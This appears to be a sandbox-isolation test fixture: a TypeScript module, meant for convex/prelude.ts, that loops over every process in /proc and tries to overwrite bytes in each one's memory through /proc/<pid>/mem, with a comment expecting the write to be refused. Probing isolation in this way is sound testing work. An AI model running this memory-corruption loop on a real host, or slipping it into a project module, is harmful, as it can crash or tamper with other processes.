// note: another process's memory is written to
// into: new:convex/prelude.ts
"use node";
import fs from "node:fs";
for (const id of fs.readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name))) {
  try {
    fs.writeSync(fs.openSync(`/proc/${id}/mem`, "r+"), Buffer.alloc(8), 0, 8, 0x1000);
  } catch {
    // It is refused.
  }
}
export const nothing = 1;
